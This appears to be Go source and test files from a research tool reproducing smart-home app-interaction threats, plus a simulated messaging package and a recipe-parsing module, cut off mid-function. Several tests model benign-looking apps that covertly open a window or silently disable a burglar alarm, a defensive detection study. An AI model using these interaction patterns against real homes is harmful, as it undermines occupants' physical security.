	h.Command("dev-tv", "on")
	if v, _ := win.Attr("switch"); v.Str != "on" {
		t.Errorf("window = %v, want on (hot room, TV on)", v)
	}
}

func TestComfortTVIgnoresWhenCool(t *testing.T) {
	h, _, win, _ := demoHome(1)
	h.InjectSensor("dev-temp", "temperature", platform.IntValue(20))
	cfg := NewConfig().
		Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
		Set("threshold1", 30)
	if _, err := Install(h, comfortTVSrc, cfg); err != nil {
		t.Fatal(err)
	}
	h.Command("dev-tv", "on")
	if v, _ := win.Attr("switch"); v.Str != "off" {
		t.Errorf("window = %v, want off (room is cool)", v)
	}
}

// TestExploitActuatorRace reproduces the Sec. VIII-A verification: with
// both apps installed on the same window, the final state varies across
// seeds — the paper observed on-only, off-only, on-then-off, off-then-on.
func TestExploitActuatorRace(t *testing.T) {
	finals := map[string]int{}
	seqs := map[string]bool{}
	for seed := int64(0); seed < 60; seed++ {
		h, _, win, _ := demoHome(seed)
		h.InjectSensor("dev-temp", "temperature", platform.IntValue(35))
		cfg1 := NewConfig().
			Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
			Set("threshold1", 30)
		if _, err := Install(h, comfortTVSrc, cfg1); err != nil {
			t.Fatal(err)
		}
		cfg2 := NewConfig().
			Bind("tv1", "dev-tv").Bind("window1", "dev-window").
			Set("weather", "rainy")
		if _, err := Install(h, coldDefenderSrc, cfg2); err != nil {
			t.Fatal(err)
		}
		h.Command("dev-tv", "on")
		v, _ := win.Attr("switch")
		finals[v.Str]++
		seq := ""
		for _, ev := range h.EventLog() {
			if ev.Source == "dev-window" && ev.Attribute == "switch" {
				seq += ev.Value.Str + ";"
			}
		}
		seqs[seq] = true
	}
	if len(finals) < 2 {
		t.Errorf("final window state should be unpredictable, got %v", finals)
	}
	if len(seqs) < 2 {
		t.Errorf("event sequences should vary, got %v", seqs)
	}
}

// TestExploitCovertTriggering reproduces Fig. 4: CatchLiveShow's remote
// TV-on covertly opens the window through ComfortTV.
func TestExploitCovertTriggering(t *testing.T) {
	const catchLiveShow = `
definition(name: "CatchLiveShow", namespace: "repro", author: "x",
    description: "Turn on the TV on app touch on Thursdays.", category: "Fun")
input "tv1", "capability.switch"
input "dayOfWeek", "enum", options: ["Monday","Thursday","Sunday"]
def installed() { subscribe(app, appTouch) }
def appTouch(evt) {
    if (dayOfWeek == "Thursday") {
        tv1.on()
    }
}
`
	h, tv, win, _ := demoHome(3)
	h.InjectSensor("dev-temp", "temperature", platform.IntValue(35))
	cfg1 := NewConfig().
		Bind("tv1", "dev-tv").Bind("tSensor", "dev-temp").Bind("window1", "dev-window").
		Set("threshold1", 30)
	if _, err := Install(h, comfortTVSrc, cfg1); err != nil {
		t.Fatal(err)
	}
	cfg2 := NewConfig().Bind("tv1", "dev-tv").Set("dayOfWeek", "Thursday")
	app2, err := Install(h, catchLiveShow, cfg2)
	if err != nil {
		t.Fatal(err)
	}
	app2.Touch() // voice message / remote tap
	if v, _ := tv.Attr("switch"); v.Str != "on" {
		t.Fatalf("tv = %v, want on", v)
	}
	if v, _ := win.Attr("switch"); v.Str != "on" {
		t.Errorf("window = %v, want on — the covert rule opened it before the user is home", v)
	}
}

// TestExploitDisablingCondition reproduces Fig. 5: NightCare turns the
// lamp off, so BurglarFinder's lamp-on condition is false when the burglar
// moves — a missed alarm.
func TestExploitDisablingCondition(t *testing.T) {
	const burglarFinder = `
definition(name: "BurglarFinder", namespace: "repro", author: "x",
    description: "Alarm on motion while the floor lamp is on at night.", category: "Safety")
input "motion1", "capability.motionSensor"
input "lamp1", "capability.switch"
input "alarm1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (lamp1.currentSwitch == "on" && location.mode == "Night") {
        alarm1.siren()
    }
}
`
	const nightCare = `
definition(name: "NightCare", namespace: "repro", author: "x",
    description: "Turn the lamp off 5 minutes after it turns on at night.", category: "Green Living")
input "lamp1", "capability.switch"
def installed() { subscribe(lamp1, "switch.on", onLamp) }
def onLamp(evt) {
    if (location.mode == "Night") {
        runIn(300, lampOff)
    }
}
def lampOff() {
    lamp1.off()
}
`
	h := platform.NewHome(5)
	lamp := h.AddDevice(&platform.Device{
		ID: "dev-lamp", Name: "floor lamp",
		Capabilities: []string{"switch"}, Type: envmodel.LightDev, WattsOn: 60,
	})
	h.AddDevice(&platform.Device{ID: "dev-motion", Name: "motion", Capabilities: []string{"motionSensor"}})
	alarm := h.AddDevice(&platform.Device{ID: "dev-alarm", Name: "siren", Capabilities: []string{"alarm"}})

	if _, err := Install(h, burglarFinder,
		NewConfig().Bind("motion1", "dev-motion").Bind("lamp1", "dev-lamp").Bind("alarm1", "dev-alarm")); err != nil {
		t.Fatal(err)
	}
	if _, err := Install(h, nightCare, NewConfig().Bind("lamp1", "dev-lamp")); err != nil {
		t.Fatal(err)
	}
	h.SetMode("Night")
	h.Command("dev-lamp", "on") // homeowner leaves the lamp on as a trap

	// Sanity: with the lamp on, a burglar would trip the alarm.
	h.InjectSensor("dev-motion", "motion", platform.StrValue("active"))
	if v, _ := alarm.Attr("alarm"); v.Str != "siren" {
		t.Fatalf("pre-check: alarm = %v, want siren while lamp is on", v)
	}
	h.Command("dev-alarm", "off")
	h.InjectSensor("dev-motion", "motion", platform.StrValue("inactive"))

	// NightCare turns the lamp off 5 minutes later...
	h.Step(400)
	if v, _ := lamp.Attr("switch"); v.Str != "off" {
		t.Fatalf("lamp = %v, want off after NightCare's delayed action", v)
	}
	// ...so the burglar's motion no longer raises the alarm.
	h.InjectSensor("dev-motion", "motion", platform.StrValue("active"))
	if v, _ := alarm.Attr("alarm"); v.Str != "off" {
		t.Errorf("alarm = %v — BurglarFinder should have been silently disabled", v)
	}
}

func TestSwitchFallthrough(t *testing.T) {
	const src = `
definition(name: "FallThrough", namespace: "x", author: "x", description: "d", category: "c")
input "sensor1", "capability.contactSensor"
input "light1", "capability.switch"
def installed() { subscribe(sensor1, "contact", handler) }
def handler(evt) {
    switch (evt.value) {
        case "open":
            light1.on()
        case "closed":
            state.reached = 1
            break
        default:
            state.reached = 2
    }
}
`
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "c1", Name: "contact", Capabilities: []string{"contactSensor"}})
	light := h.AddDevice(&platform.Device{ID: "l1", Name: "light", Capabilities: []string{"switch"}, Type: envmodel.LightDev})
	app, err := Install(h, src, NewConfig().Bind("sensor1", "c1").Bind("light1", "l1"))
	if err != nil {
		t.Fatal(err)
	}
	h.InjectSensor("c1", "contact", platform.StrValue("open"))
	if v, _ := light.Attr("switch"); v.Str != "on" {
		t.Fatalf("light = %v", v)
	}
	// Fallthrough from "open" into "closed" body sets state.reached = 1.
	if got, _ := app.State()["reached"].(int64); got != 1 {
		t.Errorf("state.reached = %v, want 1 (fallthrough)", app.State()["reached"])
	}
}

func TestMultiDeviceEach(t *testing.T) {
	const src = `
definition(name: "AllOn", namespace: "x", author: "x", description: "d", category: "c")
input "switches", "capability.switch", multiple: true
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion.active", go) }
def go(evt) {
    switches.each { s -> s.on() }
}
`
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "m1", Name: "motion", Capabilities: []string{"motionSensor"}})
	s1 := h.AddDevice(&platform.Device{ID: "s1", Name: "a", Capabilities: []string{"switch"}})
	s2 := h.AddDevice(&platform.Device{ID: "s2", Name: "b", Capabilities: []string{"switch"}})
	if _, err := Install(h, src, NewConfig().Bind("switches", "s1", "s2").Bind("motion1", "m1")); err != nil {
		t.Fatal(err)
	}
	h.InjectSensor("m1", "motion", platform.StrValue("active"))
	for _, d := range []*platform.Device{s1, s2} {
		if v, _ := d.Attr("switch"); v.Str != "on" {
			t.Errorf("%s = %v, want on", d.ID, v)
		}
	}
}

func TestCommandOnCollectionWithoutEach(t *testing.T) {
	const src = `
definition(name: "AllOff", namespace: "x", author: "x", description: "d", category: "c")
input "switches", "capability.switch", multiple: true
input "motion1", "capability.motionSensor"
def installed() { subscribe(motion1, "motion.inactive", go) }
def go(evt) { switches.off() }
`
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "m1", Name: "motion", Capabilities: []string{"motionSensor"}})
	s1 := h.AddDevice(&platform.Device{ID: "s1", Name: "a", Capabilities: []string{"switch"}})
	s2 := h.AddDevice(&platform.Device{ID: "s2", Name: "b", Capabilities: []string{"switch"}})
	h.Command("s1", "on")
	h.Step(10)
	h.Command("s2", "on")
	if _, err := Install(h, src, NewConfig().Bind("switches", "s1", "s2").Bind("motion1", "m1")); err != nil {
		t.Fatal(err)
	}
	h.Step(10)
	h.InjectSensor("m1", "motion", platform.StrValue("active"))
	h.InjectSensor("m1", "motion", platform.StrValue("inactive"))
	for _, d := range []*platform.Device{s1, s2} {
		if v, _ := d.Attr("switch"); v.Str != "off" {
			t.Errorf("%s = %v, want off", d.ID, v)
		}
	}
}

func TestModeSubscriptionAndSetLocationMode(t *testing.T) {
	const src = `
definition(name: "ModeWatcher", namespace: "x", author: "x", description: "d", category: "c")
input "locks", "capability.lock", multiple: true
def installed() { subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Away") {
        locks.lock()
    }
}
`
	h := platform.NewHome(1)
	lock := h.AddDevice(&platform.Device{ID: "l1", Name: "door", Capabilities: []string{"lock"}})
	h.Command("l1", "unlock")
	if _, err := Install(h, src, NewConfig().Bind("locks", "l1")); err != nil {
		t.Fatal(err)
	}
	h.SetMode("Away")
	if v, _ := lock.Attr("lock"); v.Str != "locked" {
		t.Errorf("lock = %v, want locked", v)
	}
}

func TestSendSmsRecorded(t *testing.T) {
	const src = `
definition(name: "Notifier", namespace: "x", author: "x", description: "d", category: "c")
input "door1", "capability.contactSensor"
input "phone1", "phone"
def installed() { subscribe(door1, "contact.open", go) }
def go(evt) { sendSms(phone1, "door opened at ${evt.name}") }
`
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "c1", Name: "door", Capabilities: []string{"contactSensor"}})
	if _, err := Install(h, src, NewConfig().Bind("door1", "c1").Set("phone1", "5551234")); err != nil {
		t.Fatal(err)
	}
	h.InjectSensor("c1", "contact", platform.StrValue("open"))
	if len(h.Messages) != 1 || !strings.Contains(h.Messages[0], "5551234") {
		t.Errorf("messages = %v", h.Messages)
	}
	if !strings.Contains(h.Messages[0], "contact") {
		t.Errorf("GString interpolation failed: %v", h.Messages)
	}
}

func TestStatePersistsAcrossInvocations(t *testing.T) {
	const src = `
definition(name: "Counter", namespace: "x", author: "x", description: "d", category: "c")
input "button1", "capability.contactSensor"
def installed() {
    state.count = 0
    subscribe(button1, "contact", go)
}
def go(evt) { state.count = state.count + 1 }
`
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "c1", Name: "c", Capabilities: []string{"contactSensor"}})
	app, err := Install(h, src, NewConfig().Bind("button1", "c1"))
	if err != nil {
		t.Fatal(err)
	}
	h.InjectSensor("c1", "contact", platform.StrValue("open"))
	h.InjectSensor("c1", "contact", platform.StrValue("closed"))
	h.InjectSensor("c1", "contact", platform.StrValue("open"))
	if got, _ := app.State()["count"].(int64); got != 3 {
		t.Errorf("state.count = %v, want 3", app.State()["count"])
	}
}

func TestRunEveryPeriodic(t *testing.T) {
	const src = `
definition(name: "Periodic", namespace: "x", author: "x", description: "d", category: "c")
input "light1", "capability.switch"
def installed() {
    state.n = 0
    runEvery5Minutes(tick)
}
def tick() { state.n = state.n + 1 }
`
	h := platform.NewHome(1)
	h.AddDevice(&platform.Device{ID: "l1", Name: "l", Capabilities: []string{"switch"}})
	app, err := Install(h, src, NewConfig().Bind("light1", "l1"))
	if err != nil {
		t.Fatal(err)
	}
	h.Step(3 * 300)
	if got, _ := app.State()["n"].(int64); got < 2 {
		t.Errorf("periodic tick ran %v times in 15 min, want >= 2", app.State()["n"])
	}
}
