// Package messaging simulates the two deployment channels of Sec. VII-B
// that relay the configuration URI from the SmartThings cloud to the
// HomeGuard frontend app: SMS (sendSmsMessage) and HTTP push through a
// Firebase-style relay. Latencies follow the paper's measurements —
// 27 ms cloud-side processing, then ≈3120 ms for SMS or ≈1058 ms for HTTP
// — sampled from a seeded distribution so experiments are reproducible
// without wall-clock sleeping.
package messaging

import (
	"errors"
	"math/rand"
	"sync"
	"time"
)

// Paper-measured latency parameters.
const (
	CloudProcessing = 27 * time.Millisecond
	SMSMeanLatency  = 3120 * time.Millisecond
	HTTPMeanLatency = 1058 * time.Millisecond
)

// Delivery is one message arrival at the frontend.
type Delivery struct {
	Payload string
	// Latency is the simulated end-to-end delay (cloud processing plus
	// transport).
	Latency time.Duration
}

// Channel relays payloads from the (simulated) cloud to the frontend.
type Channel interface {
	// Send enqueues a payload and returns its simulated delivery record.
	Send(payload string) (Delivery, error)
	// Name identifies the transport.
	Name() string
}

// Inbox collects deliveries for the frontend app.
type Inbox struct {
	mu         sync.Mutex
	deliveries []Delivery
}

// Receive appends a delivery.
func (in *Inbox) Receive(d Delivery) {
	in.mu.Lock()
	defer in.mu.Unlock()
	in.deliveries = append(in.deliveries, d)
}

// Deliveries snapshots received messages.
func (in *Inbox) Deliveries() []Delivery {
	in.mu.Lock()
	defer in.mu.Unlock()
	return append([]Delivery(nil), in.deliveries...)
}

// smsChannel simulates carrier SMS: high, variable latency; works only
// with a configured phone number (and "abroad" disables it, as the paper
// notes).
type smsChannel struct {
	phone  string
	abroad bool
	rng    *rand.Rand
	inbox  *Inbox
	mu     sync.Mutex
}

// NewSMS creates an SMS channel to the given phone.
func NewSMS(phone string, inbox *Inbox, seed int64) Channel {
	return &smsChannel{phone: phone, rng: rand.New(rand.NewSource(seed)), inbox: inbox}
}

// NewSMSAbroad creates an SMS channel that fails (user travelling abroad).
func NewSMSAbroad(phone string, inbox *Inbox, seed int64) Channel {
	return &smsChannel{phone: phone, abroad: true, rng: rand.New(rand.NewSource(seed)), inbox: inbox}
}

// ErrUnreachable indicates the transport cannot deliver.
var ErrUnreachable = errors.New("messaging: transport unreachable")

func (c *smsChannel) Name() string { return "sms" }

func (c *smsChannel) Send(payload string) (Delivery, error) {
	if c.phone == "" || c.abroad {
		return Delivery{}, ErrUnreachable
	}
	c.mu.Lock()
	jitter := time.Duration(c.rng.NormFloat64() * float64(400*time.Millisecond))
	c.mu.Unlock()
	lat := CloudProcessing + SMSMeanLatency + jitter
	if lat < CloudProcessing {
		lat = CloudProcessing
	}
	d := Delivery{Payload: payload, Latency: lat}
	c.inbox.Receive(d)
	return d, nil
}

// httpChannel simulates the FCM-relayed HTTP push: lower latency, requires
// a registration token, works internationally.
type httpChannel struct {
	token string
	rng   *rand.Rand
	inbox *Inbox
	mu    sync.Mutex
}

// NewHTTP creates an HTTP/FCM channel to the frontend identified by its
// registration token.
func NewHTTP(token string, inbox *Inbox, seed int64) Channel {
	return &httpChannel{token: token, rng: rand.New(rand.NewSource(seed)), inbox: inbox}
}

func (c *httpChannel) Name() string { return "http" }

func (c *httpChannel) Send(payload string) (Delivery, error) {
	if c.token == "" {
		return Delivery{}, ErrUnreachable
	}
	c.mu.Lock()
	jitter := time.Duration(c.rng.NormFloat64() * float64(150*time.Millisecond))
	c.mu.Unlock()
	lat := CloudProcessing + HTTPMeanLatency + jitter
	if lat < CloudProcessing {
		lat = CloudProcessing
	}
	d := Delivery{Payload: payload, Latency: lat}
	c.inbox.Receive(d)
	return d, nil
}

// MeasureMean sends n payloads and returns the mean simulated latency —
// the Sec. VIII-C configuration-collection measurement (100 trials).
func MeasureMean(c Channel, n int) (time.Duration, error) {
	if n <= 0 {
		n = 100
	}
	var total time.Duration
	for i := 0; i < n; i++ {
		d, err := c.Send("probe")
		if err != nil {
			return 0, err
		}
		total += d.Latency
	}
	return total / time.Duration(n), nil
}
