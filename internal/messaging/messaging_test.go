package messaging

import (
	"testing"
	"time"
)

func TestSMSDelivery(t *testing.T) {
	inbox := &Inbox{}
	ch := NewSMS("5551234", inbox, 1)
	d, err := ch.Send("homeguard://appname:X/")
	if err != nil {
		t.Fatal(err)
	}
	if d.Payload != "homeguard://appname:X/" {
		t.Errorf("payload = %q", d.Payload)
	}
	got := inbox.Deliveries()
	if len(got) != 1 {
		t.Fatalf("inbox = %d", len(got))
	}
	if d.Latency < CloudProcessing {
		t.Errorf("latency %v below cloud processing floor", d.Latency)
	}
}

func TestHTTPFasterThanSMSOnAverage(t *testing.T) {
	// The paper's Sec. VIII-C measurement: SMS 3120 ms vs HTTP 1058 ms
	// over 100 trials.
	inbox := &Inbox{}
	sms := NewSMS("5551234", inbox, 42)
	http := NewHTTP("fcm-token", inbox, 43)
	smsMean, err := MeasureMean(sms, 100)
	if err != nil {
		t.Fatal(err)
	}
	httpMean, err := MeasureMean(http, 100)
	if err != nil {
		t.Fatal(err)
	}
	if httpMean >= smsMean {
		t.Errorf("HTTP (%v) should beat SMS (%v)", httpMean, smsMean)
	}
	// Means should land near the paper's numbers (generous tolerance).
	if smsMean < 2500*time.Millisecond || smsMean > 3800*time.Millisecond {
		t.Errorf("SMS mean = %v, want ≈3120ms", smsMean)
	}
	if httpMean < 800*time.Millisecond || httpMean > 1400*time.Millisecond {
		t.Errorf("HTTP mean = %v, want ≈1058ms", httpMean)
	}
}

func TestSMSFailsAbroad(t *testing.T) {
	inbox := &Inbox{}
	ch := NewSMSAbroad("5551234", inbox, 1)
	if _, err := ch.Send("x"); err == nil {
		t.Error("SMS abroad should fail (the paper's stated limitation)")
	}
	if len(inbox.Deliveries()) != 0 {
		t.Error("no delivery expected")
	}
}

func TestChannelsRequireAddress(t *testing.T) {
	inbox := &Inbox{}
	if _, err := NewSMS("", inbox, 1).Send("x"); err == nil {
		t.Error("SMS without phone should fail")
	}
	if _, err := NewHTTP("", inbox, 1).Send("x"); err == nil {
		t.Error("HTTP without token should fail")
	}
}

func TestDeterministicWithSeed(t *testing.T) {
	a, _ := NewSMS("p", &Inbox{}, 7).Send("x")
	b, _ := NewSMS("p", &Inbox{}, 7).Send("x")
	if a.Latency != b.Latency {
		t.Errorf("same seed should give same latency: %v vs %v", a.Latency, b.Latency)
	}
}

func TestChannelNames(t *testing.T) {
	if NewSMS("p", &Inbox{}, 1).Name() != "sms" || NewHTTP("t", &Inbox{}, 1).Name() != "http" {
		t.Error("channel names")
	}
}

func TestMeasureMeanDefaultsTo100(t *testing.T) {
	inbox := &Inbox{}
	if _, err := MeasureMean(NewHTTP("t", inbox, 1), 0); err != nil {
		t.Fatal(err)
	}
	if len(inbox.Deliveries()) != 100 {
		t.Errorf("trials = %d, want 100", len(inbox.Deliveries()))
	}
}
