// Package nlp implements the natural-language pipeline the paper needs in
// two places: (1) extracting TCA rules from template/recipe text on
// platforms like IFTTT that define rules outside program code (Sec.
// VIII-D, Table IV), and (2) classifying capability.switch devices into
// physical types from app descriptions, which the Fig. 8 store audit uses
// to avoid false device merging. Everything is hand-rolled on stdlib:
// tokenizer, phrase lexicon, pattern matching, tf keyword scoring.
package nlp

import (
	"fmt"
	"strconv"
	"strings"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

// Tokenize lower-cases and splits text into word tokens, keeping numbers.
func Tokenize(text string) []string {
	var toks []string
	var cur strings.Builder
	flush := func() {
		if cur.Len() > 0 {
			toks = append(toks, cur.String())
			cur.Reset()
		}
	}
	for _, r := range strings.ToLower(text) {
		switch {
		case r >= 'a' && r <= 'z' || r >= '0' && r <= '9':
			cur.WriteRune(r)
		case r == '\'':
			// drop apostrophes (it's -> its)
		default:
			flush()
		}
	}
	flush()
	return toks
}

// ---------- recipe → rule extraction ----------

// deviceLexicon maps noun phrases to (device name, capability, attribute).
var deviceLexicon = []struct {
	nouns      []string
	device     string
	capability string
}{
	{[]string{"fan"}, "fan", "switch"},
	{[]string{"light", "lights", "lamp", "bulb"}, "light", "switch"},
	{[]string{"heater"}, "heater", "switch"},
	{[]string{"air", "conditioner", "ac"}, "ac", "switch"},
	{[]string{"tv", "television"}, "tv", "switch"},
	{[]string{"window"}, "window", "switch"},
	{[]string{"door"}, "door", "lock"},
	{[]string{"lock"}, "door", "lock"},
	{[]string{"valve"}, "valve", "valve"},
	{[]string{"camera"}, "camera", "videoCamera"},
	{[]string{"coffee", "maker"}, "coffeeMaker", "switch"},
	{[]string{"alarm", "siren"}, "alarm", "alarm"},
	{[]string{"thermostat"}, "thermostat", "thermostat"},
	{[]string{"outlet", "plug"}, "outlet", "switch"},
	{[]string{"shade", "curtain", "blind", "blinds"}, "shade", "windowShade"},
}

// sensorLexicon maps sensed phenomena to (sensor name, capability,
// attribute, numeric?).
var sensorLexicon = []struct {
	nouns     []string
	device    string
	attribute string
	numeric   bool
}{
	{[]string{"temperature"}, "tempSensor", "temperature", true},
	{[]string{"humidity"}, "humSensor", "humidity", true},
	{[]string{"illuminance", "brightness", "luminance"}, "luxSensor", "illuminance", true},
	{[]string{"power", "electricity", "usage"}, "powerMeter", "power", true},
	{[]string{"energy"}, "energyMeter", "energy", true},
	{[]string{"motion", "movement"}, "motionSensor", "motion", false},
	{[]string{"presence"}, "presenceSensor", "presence", false},
	{[]string{"contact"}, "contactSensor", "contact", false},
	{[]string{"smoke"}, "smokeDetector", "smoke", false},
	{[]string{"water", "leak", "moisture"}, "waterSensor", "water", false},
	{[]string{"sound", "noise"}, "soundSensor", "sound", false},
	{[]string{"co2"}, "co2Sensor", "carbonDioxide", true},
}

// commandLexicon maps verb phrases to (command, value-for-attribute).
var commandLexicon = []struct {
	verbs []string
	cmd   string
}{
	{[]string{"turn on", "switch on", "power on", "start", "enable"}, "on"},
	{[]string{"turn off", "switch off", "power off", "stop", "disable"}, "off"},
	{[]string{"open"}, "open"},
	{[]string{"close", "shut"}, "close"},
	{[]string{"lock"}, "lock"},
	{[]string{"unlock"}, "unlock"},
	{[]string{"dim"}, "setLevel"},
	{[]string{"sound", "ring"}, "siren"},
}

// RecipeRule is the extraction result with provenance.
type RecipeRule struct {
	Rule   *rule.Rule
	Source string
}

// ParseRecipe extracts a TCA rule from IFTTT-style recipe text, e.g.
//
//	"If the temperature rises above 80 then turn on the fan"
//	"When motion is detected and the mode is Night, turn on the light"
//	"If the door opens, send me a notification"
//
// It returns an error when no trigger or action can be recognised.
func ParseRecipe(app, text string) (*RecipeRule, error) {
	// Split on the raw (lower-cased) text so comma separators survive,
	// then normalise each clause through the tokenizer.
	rawTrig, rawAct := splitRecipe(" " + strings.ToLower(text) + " ")
	if rawAct == "" {
		return nil, fmt.Errorf("nlp: no action clause in %q", text)
	}
	trigPart := " " + strings.Join(Tokenize(rawTrig), " ") + " "
	actPart := " " + strings.Join(Tokenize(rawAct), " ") + " "

	r := &rule.Rule{App: app}

	// Trigger: numeric comparison or state phrase.
	trig, cond, err := parseTriggerClause(trigPart)
	if err != nil {
		return nil, fmt.Errorf("nlp: %w in %q", err, text)
	}
	r.Trigger = trig
	// The comparison over the triggering event value is the trigger
	// constraint (consistent with the symbolic executor's partitioning).
	r.Trigger.Constraint = cond

	// Extra conditions joined by "and".
	for _, c := range parseConditions(trigPart) {
		r.Condition.Predicates = append(r.Condition.Predicates, c)
	}

	act, err := parseActionClause(actPart)
	if err != nil {
		return nil, fmt.Errorf("nlp: %w in %q", err, text)
	}
	r.Action = act
	return &RecipeRule{Rule: r, Source: text}, nil
}

func splitRecipe(lower string) (trig, act string) {
	for _, sep := range []string{" then ", ", ", " do "} {
		if i := strings.Index(lower, sep); i > 0 {
			return lower[:i], lower[i+len(sep):]
		}
	}
	return lower, ""
}

// parseTriggerClause recognises the triggering phenomenon.
func parseTriggerClause(s string) (rule.Trigger, rule.Constraint, error) {
	// Numeric sensor triggers: "<sensor> rises above N" / "drops below N"
	// / "is above N" / "exceeds N".
	for _, sl := range sensorLexicon {
		for _, noun := range sl.nouns {
			idx := strings.Index(s, " "+noun+" ")
			if idx < 0 {
				continue
			}
			tr := rule.Trigger{Subject: sl.device, Attribute: sl.attribute, Capability: capabilityFor(sl.attribute)}
			rest := s[idx+len(noun)+1:]
			if sl.numeric {
				if op, n, ok := numericComparison(rest); ok {
					ev := rule.Var{Name: tr.EventVar(), Kind: rule.VarEvent, Type: rule.TypeInt}
					return tr, rule.Cmp{Op: op, L: ev, R: rule.IntVal(n)}, nil
				}
				return tr, nil, nil
			}
			// Stateful sensors: detected/active/open/...
			ev := rule.Var{Name: tr.EventVar(), Kind: rule.VarEvent, Type: rule.TypeString}
			if val := statePhrase(rest, sl.attribute); val != "" {
				return tr, rule.Cmp{Op: rule.OpEq, L: ev, R: rule.StrVal(val)}, nil
			}
			return tr, nil, nil
		}
	}
	// Device-state triggers: "the tv turns on", "the door opens".
	for _, dl := range deviceLexicon {
		for _, noun := range dl.nouns {
			idx := strings.Index(s, " "+noun+" ")
			if idx < 0 {
				continue
			}
			attr := mainAttr(dl.capability)
			tr := rule.Trigger{Subject: dl.device, Attribute: attr, Capability: dl.capability}
			rest := s[idx+len(noun)+1:]
			ev := rule.Var{Name: tr.EventVar(), Kind: rule.VarEvent, Type: rule.TypeString}
			if val := statePhrase(rest, attr); val != "" {
				return tr, rule.Cmp{Op: rule.OpEq, L: ev, R: rule.StrVal(val)}, nil
			}
			return tr, nil, nil
		}
	}
	return rule.Trigger{}, nil, fmt.Errorf("no trigger recognised")
}

func capabilityFor(attr string) string {
	switch attr {
	case "temperature":
		return "temperatureMeasurement"
	case "humidity":
		return "relativeHumidityMeasurement"
	case "illuminance":
		return "illuminanceMeasurement"
	case "power":
		return "powerMeter"
	case "energy":
		return "energyMeter"
	case "motion":
		return "motionSensor"
	case "presence":
		return "presenceSensor"
	case "contact":
		return "contactSensor"
	case "smoke":
		return "smokeDetector"
	case "water":
		return "waterSensor"
	case "sound":
		return "soundSensor"
	}
	return ""
}

func mainAttr(capName string) string {
	switch capName {
	case "lock":
		return "lock"
	case "valve":
		return "valve"
	case "videoCamera":
		return "camera"
	case "windowShade":
		return "windowShade"
	case "thermostat":
		return "thermostatMode"
	case "alarm":
		return "alarm"
	}
	return "switch"
}

// numericComparison parses "rises above 80", "exceeds 100", "drops below
// 20", "is over 30".
func numericComparison(s string) (rule.CmpOp, int64, bool) {
	toks := strings.Fields(s)
	for i, t := range toks {
		var op rule.CmpOp
		switch t {
		case "above", "over", "exceeds", "rises":
			op = rule.OpGt
		case "below", "under", "drops", "falls":
			op = rule.OpLt
		case "reaches":
			op = rule.OpGe
		default:
			continue
		}
		// Find the first number after the keyword.
		for j := i + 1; j < len(toks) && j < i+4; j++ {
			if n, err := strconv.ParseInt(toks[j], 10, 64); err == nil {
				return op, n, true
			}
		}
	}
	return "", 0, false
}

// statePhrase recognises state verbs near the subject.
func statePhrase(s, attr string) string {
	pairs := []struct {
		kw  string
		val map[string]string // attribute -> value
	}{
		{"detected", map[string]string{"motion": "active", "smoke": "detected", "water": "wet", "sound": "detected"}},
		{"active", map[string]string{"motion": "active"}},
		{"inactive", map[string]string{"motion": "inactive"}},
		{"opens", map[string]string{"contact": "open", "switch": "on", "lock": "unlocked", "valve": "open", "windowShade": "open"}},
		{"open", map[string]string{"contact": "open", "valve": "open", "windowShade": "open"}},
		{"closes", map[string]string{"contact": "closed", "valve": "closed", "windowShade": "closed"}},
		{"closed", map[string]string{"contact": "closed"}},
		{"on", map[string]string{"switch": "on", "camera": "on"}},
		{"off", map[string]string{"switch": "off", "camera": "off"}},
		{"locked", map[string]string{"lock": "locked"}},
		{"unlocked", map[string]string{"lock": "unlocked"}},
		{"arrives", map[string]string{"presence": "present"}},
		{"present", map[string]string{"presence": "present"}},
		{"leaves", map[string]string{"presence": "not present"}},
		{"away", map[string]string{"presence": "not present"}},
		{"wet", map[string]string{"water": "wet"}},
		{"dry", map[string]string{"water": "dry"}},
	}
	toks := strings.Fields(s)
	limit := 6
	if len(toks) < limit {
		limit = len(toks)
	}
	for _, t := range toks[:limit] {
		for _, p := range pairs {
			if t == p.kw {
				if v, ok := p.val[attr]; ok {
					return v
				}
			}
		}
	}
	return ""
}

// parseConditions finds "mode is X" style side conditions.
func parseConditions(s string) []rule.Constraint {
	var out []rule.Constraint
	if i := strings.Index(s, "mode is "); i >= 0 {
		rest := strings.Fields(s[i+len("mode is "):])
		if len(rest) > 0 {
			out = append(out, rule.Cmp{
				Op: rule.OpEq,
				L:  rule.Var{Name: "location.mode", Kind: rule.VarDeviceAttr, Type: rule.TypeString},
				R:  rule.StrVal(title(rest[0])),
			})
		}
	}
	return out
}

func title(s string) string {
	if s == "" {
		return s
	}
	return strings.ToUpper(s[:1]) + s[1:]
}

// parseActionClause recognises "turn on the fan", "lock the door",
// "send me a notification".
func parseActionClause(s string) (rule.Action, error) {
	s = " " + strings.TrimSpace(s) + " "
	if strings.Contains(s, "notification") || strings.Contains(s, "notify") ||
		strings.Contains(s, "text me") || strings.Contains(s, "sms") {
		return rule.Action{Subject: "sendSms", Command: "sendSms"}, nil
	}
	// Find the command verb.
	var cmd string
	cmdPos := -1
	for _, cl := range commandLexicon {
		for _, verb := range cl.verbs {
			if i := strings.Index(s, " "+verb+" "); i >= 0 {
				if cmdPos == -1 || i < cmdPos {
					cmd, cmdPos = cl.cmd, i
				}
			}
		}
	}
	if cmd == "" {
		return rule.Action{}, fmt.Errorf("no action verb recognised")
	}
	// Find the target device after (or before) the verb.
	for _, dl := range deviceLexicon {
		for _, noun := range dl.nouns {
			if strings.Contains(s, " "+noun+" ") {
				command := normaliseCommand(cmd, dl.capability)
				return rule.Action{
					Subject:    dl.device,
					Capability: dl.capability,
					Command:    command,
				}, nil
			}
		}
	}
	return rule.Action{}, fmt.Errorf("no target device recognised")
}

// normaliseCommand adapts generic verbs to the capability's command set
// (e.g. "open" on a switch-controlled window opener is on()).
func normaliseCommand(cmd, capName string) string {
